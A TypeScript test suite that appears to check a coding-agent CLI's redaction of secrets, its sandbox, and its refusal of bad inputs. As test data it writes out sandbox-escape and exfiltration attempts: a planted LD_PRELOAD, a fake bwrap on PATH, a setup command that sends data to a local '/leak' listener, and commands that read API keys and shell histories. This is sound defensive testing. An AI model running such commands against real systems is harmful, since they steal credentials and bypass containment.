import { randomBytes } from "node:crypto";
import { existsSync } from "node:fs";
import { mkdtemp, readFile, readdir, rm, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, afterEach, describe, expect, test } from "vitest";
import type { ScriptedServer, ScriptReply } from "../../bin/runtime/scripted-server.ts";
import { cleanUp, makeRepo, molt, scriptedServers, tempDir, writeFiles, type MoltResult } from "../helpers.ts";
import { scriptFile } from "../live-molt.ts";
import { closeTerminals, openTerminal, stopTmux } from "../terminal.ts";

// What an attack review found in molt's records and in what it shows: secrets that slipped past
// redaction in pieces, records trusted over the command line, inputs that were never checked.
// Every test drives ./bin/molt as a user would, against the scripted model over real HTTP.

const SUBMIT: ScriptReply = { thought: "Done.", command: "echo COMPLETE_TASK_AND_SUBMIT_FINAL_OUTPUT" };
const FILES = { "calc.js": "export const add = (a, b) => a - b;\n" };

const serve = scriptedServers();
/** Folders made outside /tmp (the sandbox hides the host's /tmp, so a test there would prove nothing). */
const outside: string[] = [];

afterEach(async () => {
  await closeTerminals();
  await Promise.all(outside.splice(0).map((path) => rm(path, { recursive: true, force: true })));
  await cleanUp();
});
afterAll(stopTmux);

const hex = (bytes: number) => randomBytes(bytes).toString("hex");

/** The longest run of characters of `secret` that appears anywhere in `text`. */
function longestPiece(text: string, secret: string): number {
  for (let length = secret.length; length > 0; length--) {
    for (let at = 0; at + length <= secret.length; at++) if (text.includes(secret.slice(at, at + length))) return length;
  }
  return 0;
}

/** Everything a run leaves for someone to read: what it printed, its record, its trajectory and its patch. */
async function everythingOf(out: string, result: MoltResult): Promise<string> {
  const files = existsSync(out) ? await readdir(out) : [];
  const texts = await Promise.all(files.filter((name) => /\.(jsonl|json|diff)$/.test(name)).map((name) => readFile(join(out, name), "utf8")));
  return [result.stdout, result.stderr, ...texts].join("\n");
}

/** `molt run` against the scripted server. */
async function run(server: ScriptedServer, args: string[], env: Record<string, string | undefined> = {}, baseUrl = server.url) {
  const repo = await makeRepo(FILES);
  const out = join(await tempDir(), "run");
  const result = await molt(["run", "--repo", repo, "--issue", "fix add", "--model", "m", "--base-url", baseUrl, "--output", out, ...args], { env });
  return { ...result, out, everything: await everythingOf(out, result) };
}

/** The observation the model got back for its `step`-th command (1 is the first). */
const observation = (server: ScriptedServer, step: number) => String(server.requests[step]?.messages.at(-1)?.content ?? "");

describe("redaction holds across pieces", () => {
  /** A key as OpenAI's look, random enough that no 8 of its characters in a row appear by chance. */
  const newKey = () => `sk-test-${hex(20)}`;

  describe.each([["--json"], ["--plain"]])("with %s", (display) => {
    test("a key the model streams in 3-character pieces, a command prints in two halves, or an output's head cuts, shows nowhere, not even 8 characters of it", async () => {
      const key = newKey();
      const server = await serve([
        { thought: `The notes hold the key ${key} which I must not use.`, chunkChars: 3, command: `printf '%s' '${key.slice(0, 24)}'; printf '%s\\n' '${key.slice(24)}'` },
        // The output's kept head (5000 characters) ends 12 characters into the key; the rest of it is elided.
        { thought: "A long output.", command: `python3 -c "print('x' * 4988 + '${key}' + 'y' * 12000)"` },
        SUBMIT,
      ]);
      const result = await run(server, [display], { OPENAI_API_KEY: key });
      expect(result.exitCode).toBe(0);
      // The model itself saw what the commands printed: the key was there to hide.
      expect(observation(server, 1)).toContain(key);
      expect(observation(server, 2)).toContain(key.slice(0, 12));
      expect(result.everything).toContain("[REDACTED]");
      expect(longestPiece(result.everything, key)).toBeLessThan(8);
    });
  });

  test("the live view never shows a key the model streams in pieces, while it streams or after", async () => {
    const key = newKey();
    const server = await serve([
      { thought: `The notes hold the key ${key} which I must not use.`, chunkChars: 3, chunkDelayMs: 40, command: "true" },
      SUBMIT,
    ]);
    const repo = await makeRepo(FILES);
    const out = join(await tempDir(), "run");
    const home = await tempDir("molt-home-");
    const library = join(await tempDir("molt-library-"), "evolved");
    const pane = await openTerminal(["run", "--repo", repo, "--issue", "fix add", "--model", "m", "--base-url", server.url, "--output", out], {
      env: { OPENAI_API_KEY: key, MOLT_LIBRARY: library, HOME: home },
    });
    const screens: string[] = [];
    const deadline = Date.now() + 60_000;
    while (Date.now() < deadline) {
      const screen = await pane.screen();
      screens.push(screen);
      if (screen.includes("q or Enter: leave")) break;
    }
    // The reply was seen as it streamed, and whole at the end.
    expect(screens.some((screen) => screen.includes("The notes hold") && !screen.includes("which I must not use"))).toBe(true);
    expect(screens.at(-1)).toContain("The notes hold the key [REDACTED] which I must not use.");
    expect(Math.max(...screens.map((screen) => longestPiece(screen, key)))).toBeLessThan(8);
  });
});

describe("secrets beyond the API key", () => {
  test("a variable passed to commands with --pass-env is hidden in the record, the trajectory and the output", async () => {
    const token = `svc-${hex(16)}`;
    const server = await serve([{ thought: "Use it.", command: 'echo "token=$MY_SERVICE_TOKEN"' }, SUBMIT]);
    const result = await run(server, ["--pass-env", "MY_SERVICE_TOKEN", "--json"], { MY_SERVICE_TOKEN: token });
    expect(result.exitCode).toBe(0);
    expect(observation(server, 1)).toContain(`token=${token}`);
    expect(result.everything).toContain("token=[REDACTED]");
    expect(longestPiece(result.everything, token)).toBeLessThan(8);
  });

  test("a credential header is hidden in pieces; an attribution header is hidden whole, and only whole", async () => {
    const credential = `hdr-${hex(16)}`;
    const server = await serve([{ thought: "Look.", command: `echo '${credential.slice(0, 10)}' '${credential.slice(10)}' https://example.com/molt https://other.example/page` }, SUBMIT]);
    const result = await run(server, ["--json", "--header", `X-Api-Key: ${credential}`, "--header", "HTTP-Referer: https://example.com/molt"]);
    expect(result.exitCode).toBe(0);
    expect(server.requests[0]?.headers["x-api-key"]).toBe(credential);
    expect(longestPiece(result.everything, credential)).toBeLessThan(8);
    expect(result.everything).not.toContain("https://example.com/molt");
    expect(result.everything).toContain("[REDACTED] https://other.example/page");
  });

  test("a key in --base-url's query is used for requests but recorded and printed as [REDACTED]", async () => {
    const secret = `q-${hex(16)}`;
    const server = await serve([{ thought: "Look.", command: "ls" }, SUBMIT]);
    const result = await run(server, [], {}, `${server.url}?api-key=${secret}`);
    expect(result.exitCode).toBe(0);
    expect(server.requests[0]?.url).toContain(`api-key=${secret}`);
    expect(result.stdout).toContain(`at ${server.url}?api-key=[REDACTED]`);
    expect(longestPiece(result.everything, secret)).toBeLessThan(8);
  });

  test("a user and password in --base-url are never recorded or printed, by a run or by molt doctor", async () => {
    const password = `pw-${hex(16)}`;
    const server = await serve([SUBMIT]);
    const withUser = server.url.replace("http://", `http://me:${password}@`);
    const result = await run(server, ["--json", "--retries", "0"], {}, withUser);
    expect(result.everything).toContain("http://[REDACTED]@127.0.0.1");
    expect(longestPiece(result.everything, password)).toBeLessThan(8);
    expect(result.everything).not.toContain("//me:");
    const doctor = await molt(["doctor", "--model", "m", "--base-url", withUser]);
    expect(doctor.stdout).toContain("http://[REDACTED]@127.0.0.1");
    expect(longestPiece(doctor.stdout + doctor.stderr, password)).toBeLessThan(8);
    expect(doctor.stdout + doctor.stderr).not.toContain("//me:");
    // Nor echoed when the URL is refused.
    const refused = await molt(["run", "--issue", "x", "--model", "m", "--base-url", withUser.replace("http://", "ftp://")]);
    expect(refused.exitCode).toBe(2);
    expect(refused.stderr.trim().split("\n")).toEqual([`molt: --base-url cannot be used: molt speaks http and https, not ftp (got "ftp://[REDACTED]@${server.url.slice("http://".length)}")`]);
  });

  test("commands do not see credentials whose names escape KEY, TOKEN, SECRET and PASSWORD, but keep PWD and OLDPWD", async () => {
    const marker = hex(8);
    const secrets = {
      DATABASE_URL: `postgres://app:db-${marker}@db.example/app`,
      GH_PAT: `ghpat-${marker}`,
      DEPLOY_PAT: `deploypat-${marker}`,
      NPM_CONFIG__AUTH: `npmauth-${marker}`,
      DOCKER_AUTH_CONFIG: `dockerauth-${marker}`,
      AZURE_CREDENTIALS: `azurecred-${marker}`,
      SMTP_PASSWD: `passwd-${marker}`,
      MYSQL_PWD: `mysqlpwd-${marker}`,
      DB_PASS: `dbpass-${marker}`,
    };
    const server = await serve([{ thought: "Look.", command: "env" }, SUBMIT]);
    const result = await run(server, [], { ...secrets, HARMLESS: `visible-${marker}`, GIT_AUTHOR_NAME: "kept-author", OLDPWD: "/usr" });
    expect(result.exitCode).toBe(0);
    const seen = observation(server, 1);
    expect(seen).toContain(`HARMLESS=visible-${marker}`);
    expect(seen).toContain("GIT_AUTHOR_NAME=kept-author");
    expect(seen).toMatch(/^PWD=\//m);
    expect(seen).toMatch(/^OLDPWD=\/usr$/m);
    for (const [name, value] of Object.entries(secrets)) {
      expect(seen, name).not.toContain(value);
      expect(seen, name).not.toMatch(new RegExp(`^${name}=`, "m"));
    }
  });

  test("shell and REPL histories of the real home are hidden from commands", async () => {
    const marker = hex(5);
    const home = await mkdtemp(join("/var/tmp", "molt-home-"));
    outside.push(home);
    const histories = [".bash_history", ".zsh_history", ".python_history", ".node_repl_history", ".psql_history", ".mysql_history", ".lesshst", ".viminfo", ".sqlite_history", ".local/share/fish/fish_history", ".rediscli_history"];
    await writeFiles(home, { "notes.txt": `visible-${marker}\n`, ...Object.fromEntries(histories.map((name) => [name, `export TOKEN=history-${marker}\n`])) });
    const server = await serve([{ thought: "Look.", command: `cat ${home}/notes.txt; for f in ${histories.map((name) => `${home}/${name}`).join(" ")}; do cat "$f"; done; grep -r history- ${home}` }, SUBMIT]);
    const result = await run(server, [], { HOME: home });
    expect(result.exitCode).toBe(0);
    const seen = observation(server, 1);
    expect(seen).toContain(`visible-${marker}`);
    expect(seen).not.toContain(`history-${marker}`);
  });
});

describe("a record is never trusted over the command line", () => {
  type Recorded = { type: string; step?: number; spec?: { sandbox: Record<string, unknown> } };
  const WEAKER = { kind: "local", network: "all", passEnv: ["OPENAI_API_KEY"], env: { LD_PRELOAD: "/nowhere/evil.so", HARMLESS_SETTING: "kept" } };
  /** As if molt had been killed after step 1. */
  const killedAfterStep1 = (event: Recorded) => event.type !== "run_finished" && (event.step === undefined || event.step <= 1);

  /** The record edited: by default to run its commands outside the sandbox, with the network and molt's API key. */
  async function editRecord(out: string, sandbox: Record<string, unknown> = WEAKER, keep: (event: Recorded) => boolean = () => true): Promise<void> {
    const file = join(out, "events.jsonl");
    const events = (await readFile(file, "utf8")).trimEnd().split("\n").map((line) => JSON.parse(line) as Recorded);
    for (const event of events) if (event.type === "run_started") Object.assign(event.spec!.sandbox, sandbox);
    await writeFile(file, events.filter(keep).map((event) => JSON.stringify(event)).join("\n") + "\n");
  }

  /** A file outside /tmp (which the sandbox hides) that only a command run outside the sandbox can make. */
  async function outsideFile(): Promise<string> {
    const dir = await mkdtemp(join("/var/tmp", "molt-escape-"));
    outside.push(dir);
    return join(dir, "escaped");
  }

  const ESCAPE = (file: string) => `echo "key=$OPENAI_API_KEY setting=$HARMLESS_SETTING"; touch ${file}; echo "touched=$?"`;

  test("replay --exec of a record edited to say sandbox local and pass OPENAI_API_KEY runs in this command line's sandbox, without the key", async () => {
    const escaped = await outsideFile();
    const key = `sk-test-${hex(20)}`;
    const server = await serve([{ thought: "Try.", command: ESCAPE(escaped) }, SUBMIT]);
    const original = await run(server, ["-c", "environment.env.HARMLESS_SETTING=kept"], { OPENAI_API_KEY: key });
    expect(original.exitCode).toBe(0);
    expect(existsSync(escaped)).toBe(false);
    await editRecord(original.out);

    const rerunDir = join(await tempDir(), "rerun");
    const replayed = await molt(["replay", original.out, "--exec", "--output", rerunDir], { env: { OPENAI_API_KEY: key } });
    expect(existsSync(escaped)).toBe(false);
    expect(replayed.stderr).toContain("molt: replay --exec takes its sandbox from this command line, not from the record: the sandbox is bwrap");
    expect(replayed.stderr).toContain("OPENAI_API_KEY is not passed to commands");
    expect(replayed.stderr).toContain("the recorded environment.env LD_PRELOAD is not set");
    const rerun = await everythingOf(rerunDir, replayed);
    expect(rerun).toContain("key= setting=kept");
    expect(rerun).toContain("touched=1");
    expect(longestPiece(rerun, key)).toBeLessThan(8);
    const started = JSON.parse((await readFile(join(rerunDir, "events.jsonl"), "utf8")).split("\n", 1)[0]!) as { sandbox: string; spec: { sandbox: { kind: string; passEnv: string[] } } };
    expect(started.sandbox).toMatch(/^bwrap /);
    expect(started.spec.sandbox).toMatchObject({ kind: "bwrap", passEnv: [] });
    // The observations are the recorded ones: the re-run matches the run.
    expect(replayed.exitCode).toBe(0);
  });

  test("molt resume of a record edited the same way carries on in this command line's sandbox", async () => {
    const escaped = await outsideFile();
    const key = `sk-test-${hex(20)}`;
    const server = await serve([{ thought: "Look.", command: "echo one > one.txt" }, SUBMIT]);
    const original = await run(server, ["--keep"], { OPENAI_API_KEY: key });
    expect(original.exitCode).toBe(0);
    const workspace = /workspace kept at (.+)/.exec(original.stdout)?.[1];
    expect(workspace).toBeDefined();
    outside.push(join(workspace!, ".."));
    await editRecord(original.out, WEAKER, killedAfterStep1);
    const rest = join(await tempDir(), "rest.json");
    await writeFile(rest, JSON.stringify([{ thought: "Try.", command: ESCAPE(escaped) }, SUBMIT]));

    const resumed = await molt(["resume", original.out, "--model", `script:${rest}`, "--json"], { env: { OPENAI_API_KEY: key, HOME: await tempDir("molt-home-") } });
    expect(resumed.exitCode).toBe(0);
    expect(existsSync(escaped)).toBe(false);
    expect(resumed.stderr).toContain("molt: resume takes its sandbox from this command line, not from the record: the sandbox is bwrap");
    const all = await everythingOf(original.out, resumed);
    expect(all).toContain("key= setting=kept");
    expect(all).toContain("touched=1");
    expect(longestPiece(all, key)).toBeLessThan(8);
  });

  test("molt resume of a record edited to name another folder, or another run's workspace, as its workspace refuses it and changes nothing there", async () => {
    /** Two kept runs, stopped after step 1 as if killed: each with its workspace. */
    async function keptRun(): Promise<{ out: string; workspace: string }> {
      const server = await serve([{ thought: "Look.", command: "echo one > one.txt" }, SUBMIT]);
      const original = await run(server, ["--keep"]);
      expect(original.exitCode).toBe(0);
      const workspace = /workspace kept at (.+)/.exec(original.stdout)![1]!;
      outside.push(join(workspace, ".."));
      await editRecord(original.out, {}, killedAfterStep1);
      return { out: original.out, workspace };
    }
    const [mine, theirs] = [await keptRun(), await keptRun()];
    // A folder of the user's, dressed up as a workspace.
    const precious = join(await mkdtemp(join("/var/tmp", "molt-precious-")), "project");
    outside.push(join(precious, ".."));
    await writeFiles(precious, { ".git/HEAD": "ref: refs/heads/main\n", "notes.txt": "mine\n" });
    await writeFiles(join(precious, ".."), { "base.git/objects/info/alternates": "/nowhere\n" });

    for (const target of [precious, theirs.workspace]) {
      const file = join(mine.out, "events.jsonl");
      const lines = (await readFile(file, "utf8")).trimEnd().split("\n").map((line) => JSON.parse(line) as Recorded & { workspace?: string });
      lines[0]!.workspace = target;
      await writeFile(file, lines.map((line) => JSON.stringify(line)).join("\n") + "\n");
      const before = await readdir(target);
      const resumed = await molt(["resume", mine.out, "--model", `script:${await scriptFile([{ command: "echo two > two.txt" }, SUBMIT])}`]);
      expect(resumed.exitCode).toBe(2);
      expect(resumed.stderr.trim()).toBe(`molt: ${target} is not a workspace molt made for the run in ${mine.out}, so the run cannot be resumed`);
      expect(await readdir(target)).toEqual(before);
      expect(existsSync(join(target, ".."))).toBe(true);
    }
    // Its own workspace still resumes.
    const file = join(mine.out, "events.jsonl");
    const lines = (await readFile(file, "utf8")).trimEnd().split("\n").map((line) => JSON.parse(line) as Recorded & { workspace?: string });
    lines[0]!.workspace = mine.workspace;
    await writeFile(file, lines.map((line) => JSON.stringify(line)).join("\n") + "\n");
    const resumed = await molt(["resume", mine.out, "--model", `script:${await scriptFile([{ command: "echo two > two.txt" }, SUBMIT])}`]);
    expect(resumed.stderr).toBe("");
    expect(resumed.exitCode).toBe(0);
  });

  test("molt resume --sandbox local --pass-env NAME: what the command line asks for, it gets", async () => {
    const escaped = await outsideFile();
    const server = await serve([{ thought: "Look.", command: "echo one > one.txt" }, SUBMIT]);
    const original = await run(server, ["--keep", "--sandbox", "local"]);
    const workspace = /workspace kept at (.+)/.exec(original.stdout)?.[1];
    outside.push(join(workspace!, ".."));
    await editRecord(original.out, WEAKER, killedAfterStep1);
    const rest = join(await tempDir(), "rest.json");
    await writeFile(rest, JSON.stringify([{ thought: "Try.", command: `echo "token=$MY_TOKEN"; touch ${escaped}` }, SUBMIT]));
    const token = `tok-${hex(12)}`;
    const resumed = await molt(["resume", original.out, "--model", `script:${rest}`, "--sandbox", "local", "--pass-env", "MY_TOKEN", "--json"], { env: { MY_TOKEN: token } });
    expect(resumed.exitCode).toBe(0);
    expect(existsSync(escaped)).toBe(true);
    const all = await everythingOf(original.out, resumed);
    expect(all).toContain("token=[REDACTED]");
    expect(longestPiece(all, token)).toBeLessThan(8);
  });

  test("a PATH in a record's environment.env does not choose which bwrap molt starts on the host", async () => {
    const escaped = await outsideFile();
    const fakes = await mkdtemp(join("/var/tmp", "molt-fake-bin-"));
    outside.push(fakes);
    await writeFile(join(fakes, "bwrap"), `#!/bin/sh\ntouch ${escaped}\necho fake-bwrap\n`, { mode: 0o755 });
    const server = await serve([{ thought: "Look.", command: "echo hello" }, SUBMIT]);
    const original = await run(server, []);
    expect(original.exitCode).toBe(0);
    await editRecord(original.out, { env: { PATH: `${fakes}:/usr/bin:/bin` } });
    const replayed = await molt(["replay", original.out, "--exec", "--output", join(await tempDir(), "rerun")]);
    expect(existsSync(escaped)).toBe(false);
    expect(replayed.stdout).not.toContain("fake-bwrap");
    expect(replayed.exitCode).toBe(0);
  });

  test("replay --exec runs a record's setup command with the network only when this command line allows it", async () => {
    let hits = 0;
    const listener = createServer((_request, response) => {
      hits++;
      response.end("ok");
    });
    await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
    try {
      const port = (listener.address() as AddressInfo).port;
      const server = await serve([SUBMIT]);
      const original = await run(server, []);
      expect(original.exitCode).toBe(0);
      // A setup command that sends what it can read to a server.
      const file = join(original.out, "events.jsonl");
      const lines = (await readFile(file, "utf8")).trimEnd().split("\n");
      const started = JSON.parse(lines[0]!) as { spec: Record<string, unknown> };
      started.spec.setup = `python3 -c "import urllib.request; urllib.request.urlopen('http://127.0.0.1:${port}/leak')"`;
      await writeFile(file, [JSON.stringify(started), ...lines.slice(1)].join("\n") + "\n");

      const offline = await molt(["replay", original.out, "--exec", "--output", join(await tempDir(), "rerun")]);
      expect(hits).toBe(0);
      expect(offline.stderr).toContain("the recorded setup command runs without the network (--allow-network gives it the network)");
      const online = await molt(["replay", original.out, "--exec", "--output", join(await tempDir(), "rerun"), "--allow-network"]);
      expect(online.stderr).not.toContain("setup command runs without");
      expect(hits).toBe(1);
    } finally {
      listener.closeAllConnections();
      await new Promise((resolve) => listener.close(resolve));
    }
  });

  test("molt resume of a run whose --base-url held a key asks for the URL again, since the record does not keep the key", async () => {
    const secret = `q-${hex(16)}`;
    // The run's step and submission, then the resumed run's second step and submission.
    const server = await serve([{ thought: "Look.", command: "echo one > one.txt" }, SUBMIT, { thought: "More.", command: "echo two > two.txt" }, SUBMIT]);
    const original = await run(server, ["--keep"], {}, `${server.url}?api-key=${secret}`);
    const workspace = /workspace kept at (.+)/.exec(original.stdout)?.[1];
    outside.push(join(workspace!, ".."));
    await editRecord(original.out, {}, killedAfterStep1);
    const home = await tempDir("molt-home-");
    const refused = await molt(["resume", original.out], { env: { HOME: home } });
    expect([refused.exitCode, refused.stderr.trim()]).toEqual([2, "molt: the run's endpoint URL held a secret, which its record does not keep: pass --base-url again"]);
    const resumed = await molt(["resume", original.out, "--base-url", `${server.url}?api-key=${secret}`, "--json"], { env: { HOME: home } });
    expect(resumed.exitCode).toBe(0);
    expect(server.requests.at(-1)?.url).toContain(`api-key=${secret}`);
    expect(longestPiece(await everythingOf(original.out, resumed), secret)).toBeLessThan(8);
  });
});

describe("bad inputs: one line, exit 2, nothing left behind", () => {
  /** What molt made: the entries of these folders (the run's output's parent, the workspaces' folder). */
  const listing = async (...dirs: string[]) => (await Promise.all(dirs.map(async (dir) => (existsSync(dir) ? (await readdir(dir)).sort() : [])))).flat();

  async function refused(args: string[], message: RegExp, options: { env?: Record<string, string | undefined>; input?: string } = {}) {
    const workspaces = await tempDir("molt-workspaces-");
    const result = await molt(args, { ...options, env: { MOLT_WORKSPACES: workspaces, ...options.env } });
    const lines = result.stderr.trim().split("\n");
    expect([result.exitCode, lines.length], result.stderr).toEqual([2, 1]);
    expect(lines[0]).toMatch(message);
    expect(result.stderr).not.toContain("internal error");
    expect(await listing(workspaces)).toEqual([]);
    return result;
  }

  /** A folder for the test with a repository, a script and a plain file in it. */
  async function setting() {
    const root = await tempDir();
    const repo = await makeRepo(FILES);
    const script = join(root, "script.json");
    await writeFile(script, JSON.stringify([SUBMIT]));
    const file = join(root, "a-file");
    await writeFile(file, "not a folder\n");
    const base = ["run", "--repo", repo, "--model", `script:${script}`];
    return { root, repo, script, file, base, before: await listing(root) };
  }

  test("an issue file over 1 MiB (50 MiB here), or one that is not text, is refused before anything is made", async () => {
    const s = await setting();
    const big = join(await tempDir(), "big.md");
    await writeFile(big, "a".repeat(50 * 1024 ** 2));
    const out = join(s.root, "run");
    await refused([...s.base, "--issue-file", big, "--output", out], /^molt: the issue file .*big\.md is larger than 1 MiB, the most molt takes$/);
    const binary = join(await tempDir(), "issue.bin");
    await writeFile(binary, Buffer.from([0x66, 0x69, 0x78, 0x00, 0x01, 0x02]));
    await refused([...s.base, "--issue-file", binary, "--output", out], /^molt: the issue file .*issue\.bin is not text: it holds NUL bytes$/);
    const latin1 = join(await tempDir(), "latin1.md");
    await writeFile(latin1, Buffer.from("caf\xe9 au lait", "latin1"));
    await refused([...s.base, "--issue-file", latin1, "--output", out], /^molt: the issue file .*latin1\.md is not UTF-8 text$/);
    await refused([...s.base, "--output", out], /^molt: the issue on standard input is larger than 1 MiB, the most molt takes$/, { input: "b".repeat(2 * 1024 ** 2) });
    expect(existsSync(out)).toBe(false);
    expect(await listing(s.root)).toEqual(s.before);
  });

  test("--output and --evolved that are files, or under one, leave no run folder and no workspace", async () => {
    const s = await setting();
    const out = join(s.root, "run");
    await refused([...s.base, "--issue", "x", "--output", s.file], /^molt: --output .*a-file is a file, not a folder$/);
    await refused([...s.base, "--issue", "x", "--output", join(s.file, "run")], /^molt: --output .*a-file\/run is under a file \(.*a-file\), not a folder$/);
    await refused([...s.base, "--issue", "x", "--output", out, "--evolved", s.file], /^molt: --evolved .*a-file is a file, not a folder$/);
    await refused([...s.base, "--issue", "x", "--output", out, "--evolved", join(s.file, "lib")], /^molt: --evolved .*a-file\/lib is under a file \(.*a-file\), not a folder$/);
    await refused([...s.base, "--issue", "x", "--output", out], /^molt: MOLT_LIBRARY .*a-file is a file, not a folder$/, { env: { MOLT_LIBRARY: s.file } });
    expect(await listing(s.root)).toEqual(s.before);
  });

  test("molt batch --output or --evolved that are files, and molt replay --exec --output under a file, are refused the same way", async () => {
    const s = await setting();
    const instances = join(s.root, "instances.json");
    await writeFile(instances, JSON.stringify([{ instance_id: "one", repo: s.repo, base_commit: "HEAD", problem_statement: "fix add" }]));
    const before = await listing(s.root);
    const batch = ["batch", "--instances", instances, "--model", `script:${s.script}`, "--sandbox", "local"];
    await refused([...batch, "--output", s.file], /^molt: --output .*a-file is a file, not a folder$/);
    await refused([...batch, "--output", join(s.file, "out")], /^molt: --output .*a-file\/out is under a file \(.*a-file\), not a folder$/);
    await refused([...batch, "--output", join(s.root, "batch"), "--evolved", s.file], /^molt: --evolved .*a-file is a file, not a folder$/);
    await refused(["batch", "merge", s.root, "--output", s.file], /^molt: --output .*a-file is a file, not a folder$/);
    expect(await listing(s.root)).toEqual(before);

    const server = await serve([SUBMIT]);
    const original = await run(server, []);
    expect(original.exitCode).toBe(0);
    await refused(["replay", original.out, "--exec", "--output", join(s.file, "rerun")], /^molt: --output .*a-file\/rerun is under a file \(.*a-file\), not a folder$/);
    await refused(["replay", original.out, "--exec", "--output", join(s.root, "rerun"), "--evolved", join(s.file, "lib")], /^molt: --evolved .*a-file\/lib is under a file \(.*a-file\), not a folder$/);
    expect(await listing(s.root)).toEqual(before);
  });
});

describe("times too long for a timer", () => {
  const TOO_LONG = "99999999";
  const LARGEST = "must be at most 2147483 seconds (about 24 days)";

  test.each([
    [["--timeout", TOO_LONG], `molt: --timeout ${LARGEST} (got "${TOO_LONG}")`],
    [["--request-timeout", TOO_LONG], `molt: --request-timeout ${LARGEST} (got "${TOO_LONG}")`],
    [["--time-limit", TOO_LONG], `molt: --time-limit ${LARGEST} (got "${TOO_LONG}")`],
    [["-c", `environment.timeout=${TOO_LONG}`], `molt: environment.timeout: ${LARGEST} (got ${TOO_LONG})`],
    [["-c", `agent.wall_time_limit_seconds=${TOO_LONG}`], `molt: agent.wall_time_limit_seconds: ${LARGEST} (got ${TOO_LONG})`],
  ])("molt run %j is refused in one line naming the largest value", async (args, line) => {
    const server = await serve([{ thought: "Look.", command: "echo hello" }, SUBMIT]);
    const result = await run(server, args);
    expect([result.exitCode, result.stderr.trim()]).toEqual([2, line]);
    expect(existsSync(result.out)).toBe(false);
    expect(server.requests).toHaveLength(0);
  });

  test("the largest command timeout and request timeout work: commands and requests are not cut short", async () => {
    const server = await serve([{ thought: "Look.", command: "sleep 0.3; echo slept" }, SUBMIT]);
    const result = await run(server, ["--timeout", "2147483", "--request-timeout", "2147483", "--time-limit", "2147483"]);
    expect(result.exitCode).toBe(0);
    expect(observation(server, 1)).toContain("slept");
  });

  test("molt batch, eval and doctor, and a record that asks for more, are refused the same way", async () => {
    const root = await tempDir();
    const instances = join(root, "instances.json");
    await writeFile(instances, "[]");
    for (const [args, line] of [
      [["batch", "--instances", instances, "--model", "m", "--output", join(root, "b"), "--timeout", TOO_LONG], `molt: --timeout ${LARGEST} (got "${TOO_LONG}")`],
      [["batch", "--instances", instances, "--model", "m", "--output", join(root, "b"), "--request-timeout", TOO_LONG], `molt: --request-timeout ${LARGEST} (got "${TOO_LONG}")`],
      [["eval", "--instances", instances, "--preds", instances, "--output", join(root, "e"), "--timeout", TOO_LONG], `molt: --timeout ${LARGEST} (got "${TOO_LONG}")`],
      [["doctor", "--model", "m", "--request-timeout", TOO_LONG], `molt: --request-timeout ${LARGEST} (got "${TOO_LONG}")`],
    ] as const) {
      const result = await molt([...args]);
      expect([result.exitCode, result.stderr.trim()]).toEqual([2, line]);
    }
    expect(await readdir(root)).toEqual(["instances.json"]);

    const server = await serve([SUBMIT]);
    const original = await run(server, []);
    const file = join(original.out, "events.jsonl");
    const lines = (await readFile(file, "utf8")).trimEnd().split("\n");
    const started = JSON.parse(lines[0]!) as { spec: { limits: { commandTimeoutSec: number } } };
    started.spec.limits.commandTimeoutSec = Number(TOO_LONG);
    await writeFile(file, [JSON.stringify(started), ...lines.slice(1)].join("\n") + "\n");
    const rerun = join(root, "rerun");
    const replayed = await molt(["replay", original.out, "--exec", "--output", rerun]);
    expect(replayed.exitCode).toBe(2);
    expect(replayed.stderr.trim()).toMatch(/^molt: .*events\.jsonl:1: not a molt event \(spec\.limits\.commandTimeoutSec: .*2147483/);
    expect(existsSync(rerun)).toBe(false);
  });
});
